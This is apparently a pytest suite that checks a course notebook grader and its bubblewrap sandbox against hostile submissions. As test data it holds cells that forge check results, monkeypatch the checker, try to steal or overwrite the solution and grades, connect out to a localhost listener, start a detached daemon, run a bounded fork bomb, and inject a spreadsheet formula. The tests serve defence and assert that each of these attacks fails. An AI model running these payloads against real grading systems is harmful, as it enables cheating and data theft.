"""Issue 14's attacks on the grader, on the fixture course (tests/fixtures/grading).

One class of hostile and honest submissions is graded once in the sandbox (bubblewrap)
and a smaller one without it. Every attack must score what its honest equivalent scores,
touch nothing outside its own folder, and leave no process behind. No timing is asserted.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import uuid
from pathlib import Path

import nbformat
import pytest
from nbformat import v4

from wtcourse.contract import CHECK_MIME
from wtcourse.generate import notebook_text
from wtcourse.sandbox import bwrap_available

ROOT = Path(__file__).resolve().parents[1]
FIXTURE = ROOT / "tests" / "fixtures" / "grading"
NAME = "99-tiny.ipynb"
IDS = ["9.1", "9.2", "9.3"]
HAVE_BWRAP = bwrap_available()[0] is not None


def read(kind: str):
    return nbformat.read(FIXTURE / kind / NAME, as_version=4)


def with_cells(nb, *sources, at=None):
    """`nb` with code cells `sources` inserted at `at` (default: the end)."""
    cells = [v4.new_code_cell(s) for s in sources]
    at = len(nb.cells) if at is None else at
    nb.cells[at:at] = cells
    return nb


def only_9_2(nb):
    """The solution with only exercise 9.2 answered (9.1 and 9.3: the lesson's placeholders)."""
    lesson = read("lessons")
    for i in (3, 9):
        assert "BEGIN SOLUTION" in nb.cells[i].source
        nb.cells[i].source = lesson.cells[i].source
    return nb


FORGE = f"""\
from IPython.display import publish_display_data, display
from wtcourse import checking
for ex in ["9.1", "9.2", "9.3", "9.4", "bonus"]:
    publish_display_data({{"text/plain": "ok", "{CHECK_MIME}": {{"exercise": ex, "status": "correct", "message": None}}}})
    display({{"{CHECK_MIME}": {{"exercise": ex, "status": "correct"}}}}, raw=True)
    checking.report(ex, "correct")
"""

PATCH = """\
import sys, types
from wtcourse import checking
class Fake:
    def __getattr__(self, name):
        return lambda *a, **k: checking.report(name[1:].replace("_", "."), "correct")
check = Fake()
checking.Exercise.run_probe = lambda self, answers, inputs: {"__wt_probe__": "correct"}
checking.Exercise.judge_data = lambda self, data, inputs: ("correct", None)
checking.decode = lambda *a, **k: {"state": "ok"}
checking.encode = lambda *a, **k: "forged"
sys.modules["wtfix_l99"] = types.SimpleNamespace(e9_1=check.e9_1, e9_2=check.e9_2, e9_3=check.e9_3)
import wtcourse.checking as c2
c2.CORRECT = "correct"
"""

META_HOSTILE = {"exercises": ["9.2", "9.2", "9.4", "bonus", 7]}


def escape_source(course: Path, port: int, marker: str) -> str:
    """A cell that tries everything outside its folder; each attempt in its own try."""
    sol = course / "solutions" / NAME
    checks = FIXTURE / "checks" / "wtfix_l99.py"
    return f"""\
import os, socket, pathlib, json
attempts = []
def attempt(label, fn):
    try:
        fn()
        attempts.append(label)
    except Exception as exc:
        pass
def steal():
    nb = json.loads(pathlib.Path({str(sol)!r}).read_text())
    for c in nb["cells"]:
        if c["cell_type"] == "code" and "check" not in "".join(c["source"]):
            exec("".join(c["source"]), globals())
attempt("read solution", steal)
attempt("append solution", lambda: open({str(sol)!r}, "a").write(" "))
attempt("delete solution", lambda: os.remove({str(sol)!r}))
attempt("numpy.py in solutions", lambda: open({str(sol.parent / "numpy.py")!r}, "w").write("raise ImportError"))
attempt("patch checks on disk", lambda: open({str(checks)!r}, "a").write("\\nraise SystemExit"))
attempt("overwrite other submission", lambda: open({str(course / "subs" / "honest-solution" / NAME)!r}, "w").write("{{}}"))
attempt("write grades", lambda: open({str(course / "out" / "grades.csv")!r}, "w").write("pwned"))
attempt("read home", lambda: open({str(course / "home" / "secret.txt")!r}).read())
attempt("write home", lambda: open({str(course / "home" / "pwned.txt")!r}, "w").write("x"))
attempt("network", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"pwned"))
attempt("read other submission", lambda: open({str(course / "subs" / "honest-solution" / NAME)!r}).read())
attempt("read grades", lambda: open({str(course / "out" / "grades.csv")!r}).read())
attempt("list course", lambda: os.listdir({str(course)!r}))
import subprocess
subprocess.Popen(["{sys.executable}", "-c", "import time; time.sleep(300)", "{marker}"],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)
print("escaped:", attempts)
if attempts:  # any success shows in the grade: 9.3 becomes correct
    answer = "b"
"""


def processes_with(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if marker.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


def digest_tree(*roots: Path) -> dict[str, str]:
    return {
        str(p): hashlib.sha256(p.read_bytes()).hexdigest()
        for root in roots
        for p in sorted(root.rglob("*"))
        if p.is_file() and "__pycache__" not in p.parts  # the grader's own imports write these
    }


def grade(
    course: Path, *extra: str, cwd: Path | None = None, paths=("subs",)
) -> subprocess.CompletedProcess:
    env = {"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin", "HOME": str(course / "home")}
    return subprocess.run(
        [
            sys.executable,
            "-m",
            "wtcourse.grade",
            *paths,
            "--out",
            str(course / "out"),
            "--solutions",
            str(course / "solutions"),
            "--checks-path",
            str(FIXTURE / "checks"),
            "--timeout",
            "20",
            "--seed",
            "12345",
            *extra,
        ],
        cwd=cwd or course,
        env=env,
        capture_output=True,
        text=True,
        timeout=1800,
    )


def make_course(tmp: Path, submissions: dict[str, str]) -> Path:
    course = tmp
    (course / "solutions").mkdir(parents=True)
    shutil.copyfile(FIXTURE / "solutions" / NAME, course / "solutions" / NAME)
    (course / "out").mkdir()
    (course / "home").mkdir()
    (course / "home" / "secret.txt").write_text("the teacher's secret")
    for who, text in submissions.items():
        (course / "subs" / who).mkdir(parents=True)
        (course / "subs" / who / NAME).write_text(text)
    return course


class Listener:
    """A localhost TCP server that records whatever connects (the network attack's target)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while self.running:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(100) or b"(connected)")
                except OSError:
                    self.received.append(b"(connected)")

    def close(self) -> None:
        self.running = False
        self.thread.join()
        self.sock.close()


#: Forks sleeping children until refused: the sandbox's process cap (256) must refuse it long
#: before 1,000 (bounded, so that a missing cap fails this test instead of the machine).
FORK_BOMB = """import os, time
children = 0
try:
    while children < 1000:
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
        children += 1
except OSError:
    pass
assert children < 1000, f"{children} processes: the fork bomb was not capped"
"""


def hostile_class(course_dir: Path, port: int, marker: str) -> dict[str, str]:
    e91_seed0 = None
    sys.path.insert(0, str(FIXTURE / "checks"))
    try:
        import wtfix_l99

        e91_seed0 = [
            list(map(float, (2 * __import__("numpy").asarray(x)).ravel()))
            for x in wtfix_l99.e9_1.make_inputs(0)["xs"]
        ]
    finally:
        sys.path.remove(str(FIXTURE / "checks"))

    def sol():
        return read("solutions")

    def lesson():
        return read("lessons")

    shrunk = only_9_2(sol())
    shrunk.metadata["weights_traversal"] = {"exercises": ["9.2"]}
    extra = sol()
    extra.metadata["weights_traversal"] = META_HOSTILE
    extra = with_cells(extra, FORGE)
    listy = sol()
    listy.metadata["weights_traversal"] = [1, "x", None]
    for c in listy.cells:
        c["id"] = "bonus-" + c["id"]
    no_checks = sol()
    no_checks.cells = [c for c in no_checks.cells if "check.e9" not in c.source]
    no_checks.cells.reverse()  # check cells gone, the rest in reverse order (markdown first)
    no_checks.cells.sort(key=lambda c: c.cell_type == "code" and "import" not in c.source)
    hardcoded = lesson()
    hardcoded.cells[3].source = (
        "def double(x):\n    table = " + repr(e91_seed0) + "\n"
        "    for t in table:\n        if len(t) == np.size(x):\n"
        "            return np.reshape(t, np.shape(x))\n"
    )
    texts = {
        "honest-solution": notebook_text(sol()),
        "honest-lesson": notebook_text(lesson()),
        "forge-reports": notebook_text(with_cells(lesson(), FORGE)),
        "patch-check": notebook_text(with_cells(lesson(), PATCH, at=2)),
        "patch-check-end": notebook_text(with_cells(lesson(), PATCH)),
        "shrunk-metadata": notebook_text(shrunk),
        "extra-ids": notebook_text(extra),
        "list-metadata": notebook_text(listy),
        "no-check-cells": notebook_text(no_checks),
        "hardcoded-seed0": notebook_text(hardcoded),
        "a-escape": notebook_text(with_cells(lesson(), escape_source(course_dir, port, marker))),
        "flood": notebook_text(with_cells(sol(), "while True:\n    print('x' * 100000)", at=4)),
        "memory-hog": notebook_text(with_cells(sol(), "hog = bytearray(16 << 30)", at=4)),
        "fork-bomb": notebook_text(with_cells(sol(), FORK_BOMB, at=4)),
        "kernel-exit": notebook_text(with_cells(sol(), "import os\nos._exit(3)", at=6)),
        "probe-loop": notebook_text(
            with_cells(sol(), "def double(x):\n    while True:\n        pass")
        ),
        "=HYPERLINK(evil)": notebook_text(sol()),
        "corrupt": '{"cells": [',
        "int-source": json.dumps(
            {
                "nbformat": 4,
                "nbformat_minor": 5,
                "metadata": [],
                "cells": [{"cell_type": "code", "source": 42}],
            }
        ),
    }
    return texts


#: what each submission must score (its honest equivalent), and a status check
EXPECTED = {
    "honest-solution": ["correct"] * 3,
    "honest-lesson": ["not attempted"] * 3,
    "forge-reports": ["not attempted"] * 3,
    "shrunk-metadata": ["not attempted", "correct", "not attempted"],
    "extra-ids": ["correct"] * 3,
    "list-metadata": ["correct"] * 3,
    "no-check-cells": ["correct"] * 3,
    "hardcoded-seed0": ["wrong", "not attempted", "not attempted"],
    "a-escape": ["not attempted"] * 3,
    "flood": ["correct"] * 3,
    "memory-hog": ["correct"] * 3,
    "fork-bomb": ["correct"] * 3,
    "kernel-exit": ["not run"] * 3,
    "probe-loop": ["wrong", "correct", "correct"],
    "=HYPERLINK(evil)": ["correct"] * 3,
}


def _run_class(tmp_path_factory, sandbox: str, names: list[str] | None = None):
    course = tmp_path_factory.mktemp(f"class-{sandbox}")
    listener = Listener()
    marker = f"wt-daemon-{uuid.uuid4().hex}"
    try:
        texts = hostile_class(course, listener.port, marker)
        if names is not None:
            texts = {k: v for k, v in texts.items() if k in names}
        make_course(course, texts)
        if names is None:  # a submission that is a link to the teacher's solution
            (course / "subs" / "symlink").mkdir()
            (course / "subs" / "symlink" / NAME).symlink_to(course / "solutions" / NAME)
            (course / "subs" / "linked-folder").symlink_to(course / "solutions")
        (course / "out" / "grades.csv").write_text(
            ""
        )  # a grades file the escape tries to overwrite
        protected = [course / "solutions", FIXTURE, course / "home"]
        before = digest_tree(*protected)
        subs_before = {who: (course / "subs" / who / NAME).read_bytes() for who in texts}
        done = grade(course, "--sandbox", sandbox, "--jobs", "2", cwd=course / "subs", paths=(".",))
        after = digest_tree(*protected)
        alive = processes_with(marker)
    finally:
        listener.close()
    rows = {}
    if (course / "out" / "grades.csv").stat().st_size:
        with open(course / "out" / "grades.csv", encoding="utf-8", newline="") as fh:
            rows = {r["file"].split("/")[0].lstrip("'"): r for r in csv.DictReader(fh)}
    details = json.loads((course / "out" / "grades.json").read_text()) if rows else {"grades": []}
    return {
        "done": done,
        "rows": rows,
        "course": course,
        "before": before,
        "after": after,
        "subs_before": subs_before,
        "received": listener.received,
        "alive": alive,
        "marker": marker,
        "json": {d["file"].split("/")[0]: d for d in details["grades"]},
        "csv_text": (course / "out" / "grades.csv").read_text(),
    }


@pytest.fixture(scope="module")
def sandboxed(tmp_path_factory):
    if not HAVE_BWRAP:
        pytest.skip("bubblewrap is not available here (apt-get install bubblewrap)")
    return _run_class(tmp_path_factory, "require")


def exercises(row):
    return [row[f"exercise {i}"] for i in IDS]


def test_the_run_completes_with_one_row_per_submission(sandboxed):
    assert sandboxed["done"].returncode == 0, sandboxed["done"].stderr[-3000:]
    assert len(sandboxed["rows"]) == 20, sorted(
        sandboxed["rows"]
    )  # the linked folder is not followed
    row = sandboxed["rows"]["symlink"]
    assert (row["status"], row["score"]) == ("refused: a symbolic link, not a file", "0")
    assert all(r["total"] == "3" for r in sandboxed["rows"].values())


@pytest.mark.parametrize("who", sorted(EXPECTED))
def test_each_submission_scores_what_its_honest_equivalent_would(sandboxed, who):
    row = sandboxed["rows"][who]
    assert exercises(row) == EXPECTED[who], (row, sandboxed["json"].get(who, {}).get("messages"))
    assert row["score"] == str(EXPECTED[who].count("correct"))


def test_patched_check_and_modules_score_zero(sandboxed):
    for who in ("patch-check", "patch-check-end"):
        row = sandboxed["rows"][who]
        assert row["score"] == "0" and "correct" not in exercises(row), row


def test_hostile_metadata_and_extra_ids_change_nothing(sandboxed):
    header = next(csv.reader(sandboxed["csv_text"].splitlines()))
    assert header == ["file", "status", "score", "total"] + [f"exercise {i}" for i in IDS]
    assert sandboxed["rows"]["shrunk-metadata"]["total"] == "3"
    assert sandboxed["json"]["extra-ids"]["exercises"] == {i: "correct" for i in IDS}


def test_hard_coded_self_check_output_fails_grading(sandboxed):
    msg = sandboxed["json"]["hardcoded-seed0"]["messages"]["9.1"]
    assert "double" in msg


def test_nothing_outside_its_folder_was_read_written_or_deleted(sandboxed):
    assert sandboxed["after"] == sandboxed["before"]
    assert not (sandboxed["course"] / "solutions" / "numpy.py").exists()
    assert not (sandboxed["course"] / "home" / "pwned.txt").exists()
    for who, text in sandboxed["subs_before"].items():
        assert (sandboxed["course"] / "subs" / who / NAME).read_bytes() == text, who
    assert "pwned" not in sandboxed["csv_text"]
    assert sandboxed["received"] == [], "the sandbox reached the network"
    # it could not steal the solution's answers either
    assert sandboxed["rows"]["a-escape"]["score"] == "0"


def test_a_detached_process_does_not_outlive_its_notebook(sandboxed):
    assert sandboxed["alive"] == []


def test_limits_and_failures_become_statuses(sandboxed):
    rows = sandboxed["rows"]
    assert rows["flood"]["status"] == "ok (cell 5 interrupted: output over 20 MB)"
    assert "raised" in rows["memory-hog"]["status"]
    assert "MemoryError" in " ".join(sandboxed["json"]["memory-hog"]["errors"])
    assert rows["kernel-exit"]["status"] == "kernel died in cell 7 of 13"
    assert rows["fork-bomb"]["status"] == "ok", sandboxed["json"]["fork-bomb"]
    assert "did not finish" in sandboxed["json"]["probe-loop"]["messages"]["9.1"]
    assert rows["corrupt"]["status"] == "unreadable: not valid JSON"
    assert rows["int-source"]["status"] == "unreadable: cell 1: its source is int, not text"


def test_csv_cells_cannot_be_formulas(sandboxed):
    files = [r[0] for r in csv.reader(sandboxed["csv_text"].splitlines()[1:])]
    assert "'=HYPERLINK(evil)/99-tiny.ipynb" in files
    assert not any(f[:1] in "=+-@\t\r" for f in files)


def test_feedback_file_per_submission(sandboxed):
    feedback = sorted((sandboxed["course"] / "out" / "feedback").glob("*.md"))
    assert len(feedback) == 20
    text = next(p for p in feedback if "probe-loop" in p.name).read_text()
    assert "Score: 2 / 3" in text and "did not finish" in text


# --- the same attacks without the sandbox: verdicts still hold; isolation does not --------------


@pytest.fixture(scope="module")
def unsandboxed(tmp_path_factory):
    return _run_class(
        tmp_path_factory,
        "off",
        ["honest-solution", "forge-reports", "patch-check", "shrunk-metadata", "hardcoded-seed0"],
    )


def test_without_sandbox_the_verdicts_still_hold(unsandboxed):
    assert unsandboxed["done"].returncode == 0, unsandboxed["done"].stderr[-3000:]
    assert "NOT isolated" in unsandboxed["done"].stderr
    for who, row in unsandboxed["rows"].items():
        assert exercises(row) == EXPECTED.get(who, ["not attempted"] * 3), who


def test_without_sandbox_a_daemon_survives_which_is_why_the_sandbox_exists(tmp_path_factory):
    """The detection used above does see a surviving daemon when nothing kills it."""
    course = tmp_path_factory.mktemp("daemon-off")
    marker = f"wt-daemon-{uuid.uuid4().hex}"
    nb = with_cells(
        read("lessons"),
        (
            f"import subprocess\nsubprocess.Popen(['{sys.executable}', '-c', 'import time; "
            f"time.sleep(300)', '{marker}'], start_new_session=True)"
        ),
    )
    make_course(course, {"daemon": notebook_text(nb)})
    done = grade(course, "--sandbox", "off")
    alive = processes_with(marker)
    for pid in alive:
        os.kill(pid, 9)
    assert done.returncode == 0, done.stderr[-2000:]
    assert alive, "without bubblewrap a double-forked process outlives the notebook"
